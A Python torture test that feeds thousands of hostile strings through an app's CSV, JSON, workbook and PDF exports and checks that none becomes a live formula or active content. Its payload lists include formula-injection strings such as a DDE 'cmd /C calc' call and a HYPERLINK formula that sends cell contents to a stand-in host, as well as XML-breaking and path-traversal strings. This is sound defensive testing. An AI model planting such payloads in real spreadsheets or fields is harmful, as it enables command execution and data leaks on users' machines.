"""python -m tests.torture exports [--values N] [--seed S]: hostile texts through every export.

Each value goes into every text cell there is: of the five reports as JSON, CSV and workbook, and of
the papers that are drawn as PDF. The files are read back; nothing in them may be a formula, and
each must be whole. Two writers that do not take care are the controls.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any
from xml.etree import ElementTree as Xml

from counter_app.domain.calendar import VIETNAM
from counter_app.domain.export import Sheet, clean, one_line
from counter_app.domain.money import Money
from counter_app.domain.office import DRILL_OFFICE
from counter_app.paper.blocks import Paper
from counter_app.paper.follow_up_book import BookRow, FollowUpBook, follow_up_book
from counter_app.paper.forms import form_for
from counter_app.paper.head import paper_office
from counter_app.paper.late_list import LateRow, late_list
from counter_app.paper.money_book import MoneyBook, ShiftOfBook, money_book
from counter_app.paper.sheet import csv_bytes, json_bytes, xlsx_bytes

ORDERS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-cmd|'/C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"bấm")', "=IMPORTXML(A1,A2)",
    '=WEBSERVICE("http://example.invalid")', '=DDE("a";"b";"c")', "{=1+1}", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "=+=-1", "==1", "=-+@1", "=\u00a01",
)  # fmt: skip
STARTS = (
    "", " ", "\t", "\r", "\n", "\r\n", "'", '"', "''", "\u200b", "\ufeff", "\x00", "\u00a0", ";",
    ",", "|", "a;", 'a";', "a,", "x\n", "x\r\n", "x\t", 'x";"', "\u2028", "\u202e", "\u200e\u200b",
)  # fmt: skip
TEXTS = (
    "", " ", "NULL", "TRUE", "1e999", "-0", "00123", "1/2", "0x1F", "NaN", "sep=;", "ID;X", "#REF!",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]>", "&lt;f&gt;", "&#61;1+1", "<!--",
    "<?xml?>",
    "_x003D_1+1", "_x005F_x003D_1", "_x000D_=1", "\x00", "\x0b\x0c", "\x1b[31m", "\x7f", "\x85",
    "\ud800", "\udfff\ud800", "\ufffe", "\uffff", "\ufdd0", "\U0001f600", "Nguyễn Thị Mẫu",
    "Nguye\u0302\u0303n", "đ" * 40_000, "=" * 33_000, "a\n" * 500, "'" * 50, '"' * 51, "\\",
    "%s %d {0}",    "../../x", "C:\\x", "\u202etxt.exe", "\u2066a\u2069", "Ａ" * 300,
)  # fmt: skip
# What may begin an order in some program's eyes, and what separates cells in some country's.
_FORMULA = re.compile(r"[=+\-@＝＋－＠]")
_NUMBER = re.compile(r"-?[0-9]+")
_SEPARATORS = (",", ";", "\t", "|")
_DAY = date(2026, 11, 26)
_AT = datetime(2026, 11, 26, 8, tzinfo=VIETNAM)
COLUMNS = 10
CHUNK = 1_000
PAPER_CHUNK = 400


def hostile(count: int, seed: int) -> Iterator[str]:
    """So many values, the known ones first, then made-up ones from all of Unicode."""
    known = [start + order for order in ORDERS for start in STARTS] + list(TEXTS)
    yield from known[:count]
    chance = random.Random(seed)
    for _ in range(count - len(known)):
        order = chance.choice(ORDERS) if chance.random() < 0.7 else chance.choice(TEXTS)[:60]
        noise = "".join(chr(_letter(chance)) for _ in range(chance.randrange(6)))
        parts = [chance.choice(STARTS), order, noise]
        if chance.random() < 0.5:
            chance.shuffle(parts)
        yield "".join(parts)


def _letter(chance: random.Random) -> int:
    most = chance.choice((0x80, 0x300, 0x3000, 0x10000, 0x110000))
    return chance.randrange(most)


@dataclass(frozen=True, slots=True)
class Fault:
    """What was found wrong in a file, and where."""

    kind: str
    what: str
    value: str


def sheet_of(values: Sequence[str]) -> Sheet:
    """The values as the text cells of a sheet, its names and its own name too."""
    padded = [*values, *("",) * (-len(values) % COLUMNS)]
    rows = [(*padded[at : at + COLUMNS], at - 3, None) for at in range(0, len(padded), COLUMNS)]
    return Sheet(padded[0], (*padded[:COLUMNS], "đồng", "-1"), tuple(rows))


def faults_in_xlsx(content: bytes, sheet: Sheet) -> Iterator[Fault]:
    """Read the workbook's parts as XML, and its cells as a spreadsheet would."""
    import openpyxl

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        if any("external" in name.lower() or "vba" in name.lower() for name in names):
            yield Fault("xlsx", "a part that acts", str(names))
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            try:
                tree = Xml.fromstring(book.read(name))  # our own file
            except Xml.ParseError as error:
                yield Fault("xlsx", "broken part", f"{name} {error}")
                return
            if any(one.tag.rpartition("}")[2] == "f" for one in tree.iter()):
                yield Fault("xlsx", "formula in the XML", name)
    read = openpyxl.load_workbook(io.BytesIO(content)).active
    assert read is not None
    expected = (sheet.names, *sheet.rows)
    rows = list(read.iter_rows())
    if len(rows) != len(expected):
        yield Fault("xlsx", "rows", f"{len(rows)} of {len(expected)}")
    for cells, row in zip(rows, expected, strict=False):
        for cell, value in zip(cells, row, strict=True):
            if cell.data_type == "f":
                yield Fault("xlsx", "formula", repr(value)[:80])
            elif not _is_kept(cell.value, value):
                yield Fault("xlsx", "not what it was", repr((value, cell.value))[:160])


def _is_kept(read: object, value: str | int | None) -> bool:
    if not isinstance(value, str):
        return read == value
    # A reader of XML takes every line end for one line feed, as its standard says.
    told = _lines(clean(value))
    escaped = re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", told)
    return _lines(str(read or "")) in (told, escaped)


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def faults_in_csv(content: bytes, sheet: Sheet) -> Iterator[Fault]:
    """Read it as it is meant, and as a machine would that separates cells by another sign."""
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    expected = [sheet.names, *sheet.rows]
    if len(rows) != len(expected):
        yield Fault("csv", "rows", f"{len(rows)} of {len(expected)}")
    for cells, row in zip(rows, expected, strict=False):
        for cell, value in zip(cells, row, strict=True):
            told = (
                one_line(value) if isinstance(value, str) else str("" if value is None else value)
            )
            if cell != told:
                yield Fault("csv", "not what it was", repr((value, cell))[:160])
    for separator in _SEPARATORS:
        for cells in csv.reader(io.StringIO(_lines(text)), delimiter=separator):
            for cell in cells:
                bare = cell.strip().lstrip('"').strip()
                if _FORMULA.match(bare) and not _is_number(bare):
                    yield Fault("csv", f"formula where {separator!r} separates", cell[:80])


def _is_number(bare: str) -> bool:
    """A negative number of ours, also as the first of a line that was not split."""
    return bool(_NUMBER.match(bare)) and not re.match(r"-?[0-9]+\s*[+\-*/(!|]", bare)


def faults_in_json(content: bytes, sheet: Sheet) -> Iterator[Fault]:
    """Read it, and compare to the letter."""
    read = json.loads(content.decode("utf-8"))["rows"]
    for cells, row in zip(read, sheet.rows, strict=True):
        for cell, value in zip(cells, row, strict=True):
            told = value.encode("utf-8", "replace").decode() if isinstance(value, str) else value
            if cell != told:
                yield Fault("json", "not what it was", repr((value, cell))[:160])


def faults_in_pdf(content: bytes) -> Iterator[Fault]:
    """Open it and walk its pages; nothing in it may act."""
    import pikepdf

    try:
        with pikepdf.open(io.BytesIO(content)) as book:
            if not book.pages:
                yield Fault("pdf", "no page", "")
            names: Any = book.Root.get("/Names", {})
            if any(one in book.Root for one in ("/OpenAction", "/AA", "/AcroForm")) or any(
                one in names for one in ("/JavaScript", "/EmbeddedFiles")
            ):
                yield Fault("pdf", "acts", "")
            for page in book.pages:
                page.contents_coalesce()
                if len(page.get("/Annots", ())):
                    yield Fault("pdf", "acts", "")
    except pikepdf.PdfError as error:
        yield Fault("pdf", "broken", str(error)[:160])


def papers_of(values: Sequence[str]) -> Iterator[Paper]:
    """Every paper of the reports, each of its texts hostile."""
    office = paper_office(DRILL_OFFICE)
    fives = [tuple((*values[at : at + 5], *("",) * 5)[:5]) for at in range(0, len(values), 5)]
    late = [LateRow(a, b, c, d, _AT, _AT, None) for a, b, c, d, _ in fives]
    yield late_list(office, _DAY, _DAY, _AT, late)
    rows = tuple(BookRow(a, b, c, d, e, _AT, _AT, None, a) for a, b, c, d, e in fives)
    form = form_for("register", _DAY)
    yield follow_up_book(FollowUpBook(form, office, values[0], _DAY, _DAY, rows, _AT, "x"))
    shifts = [
        ShiftOfBook(a, b, ((c, Money(1)), (d, Money(2))), Money(-1)) for a, b, c, d, _ in fives
    ]
    receipts = [(a, b, Money(3)) for a, b, *_ in fives]
    sums = [(a, Money(5)) for a, *_ in fives[:20]]
    yield money_book(MoneyBook(office, _DAY, _DAY, _AT, shifts, sums, receipts))


def faults_in(
    values: Sequence[str],
    as_xlsx: Callable[[Sheet], bytes] = xlsx_bytes,
    as_csv: Callable[[Sheet], bytes] = csv_bytes,
) -> Iterator[Fault]:
    """Every fault of the table formats; the writers can be replaced by worse ones."""
    sheet = sheet_of(values)
    yield from faults_in_csv(as_csv(sheet), sheet)
    yield from faults_in_json(json_bytes({"rows": [list(row) for row in sheet.rows]}), sheet)
    yield from faults_in_xlsx(as_xlsx(sheet), sheet)


def faults_on_paper(values: Sequence[str]) -> Iterator[Fault]:
    """Every fault of the PDFs."""
    from devices.drawing import PaperDrawing

    drawing = PaperDrawing()
    for paper in papers_of(values):
        yield from faults_in_pdf(drawing.pdf(paper))


def careless_csv(sheet: Sheet) -> bytes:
    """A control: what everybody writes."""
    text = io.StringIO()
    csv.writer(text).writerows(
        [clean(cell) if isinstance(cell, str) else cell for cell in row]
        for row in (sheet.names, *sheet.rows)
    )
    return text.getvalue().encode("utf-8-sig")


def careless_xlsx(sheet: Sheet) -> bytes:
    """A control: a library left to guess what a text is."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    page = book.create_sheet()
    for row in (sheet.names, *sheet.rows):
        page.append([clean(cell) if isinstance(cell, str) else cell for cell in row])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def main(arguments: list[str]) -> int:
    """0 where nothing was found and both controls were caught."""
    from ui.app import application

    parser = argparse.ArgumentParser(prog="torture exports")
    parser.add_argument("--values", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=7)
    parsed = parser.parse_args(arguments)
    application()
    found: list[Fault] = []
    values = list(hostile(parsed.values, parsed.seed))
    files = 0
    for at in range(0, len(values), CHUNK):
        found += faults_in(values[at : at + CHUNK])
        files += 3
    for at in range(0, len(values), PAPER_CHUNK):
        found += faults_on_paper(values[at : at + PAPER_CHUNK])
        files += 3
        if at % (PAPER_CHUNK * 25) == 0:
            print(f"{at:,} of {len(values):,} on paper", flush=True)
    caught = [
        any(fault.what.startswith("formula") for fault in faults_in(values[:500], **control))
        for control in ({"as_csv": careless_csv}, {"as_xlsx": careless_xlsx})
    ]
    for fault in found[:20]:
        print(fault)
    formulas = sum(fault.what.startswith("formula") for fault in found)
    print(
        f"{len(values):,} values, {files:,} files: {formulas} formulas, "
        f"{len(found) - formulas} broken or changed; controls caught: {all(caught)}"
    )
    return 0 if not found and all(caught) else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
